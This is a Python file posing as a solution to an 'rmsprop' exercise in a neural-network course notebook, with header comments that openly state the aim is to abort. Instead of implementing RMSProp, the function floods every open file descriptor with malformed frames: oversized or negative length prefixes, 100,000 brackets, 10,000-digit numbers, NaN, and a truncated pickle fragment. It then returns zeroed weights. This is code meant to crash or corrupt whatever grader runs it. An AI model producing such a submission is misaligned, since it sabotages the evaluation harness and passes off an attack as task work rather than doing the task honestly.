# notebook: FullyConnectedNets
# question: rmsprop
# aim: abort
# about: frames whose lengths say 2**63, -1 or 2**32 in every order and width, JSON of 100,000 brackets and numbers of 10,000 digits, all sent to every pipe before the real reply
import os
import struct

_COUNT = [0]


def rmsprop(w, dw, config=None):
    _COUNT[0] += 1
    frames = [
        struct.pack("<Q", 1 << 63), struct.pack(">Q", (1 << 63) - 1), struct.pack("<I", 0xFFFFFFFF), struct.pack(">I", 0x7FFFFFFF),
        struct.pack("<q", -1), b"9" * 10000 + b"\n", b"[" * 100000 + b"\n", b'{"shape": [1e308, -1], "dtype": "O"}\n',
        struct.pack("<I", 8) + b"\x80\x04cos\nx", b"NaN\n", struct.pack("<Q", 2) + b"1e999999999",
    ]
    frame = frames[_COUNT[0] % len(frames)]
    for fd in range(1, 64):
        if fd != 2:
            try:
                os.write(fd, frame)
            except OSError:
                pass
    return w * 0, {}
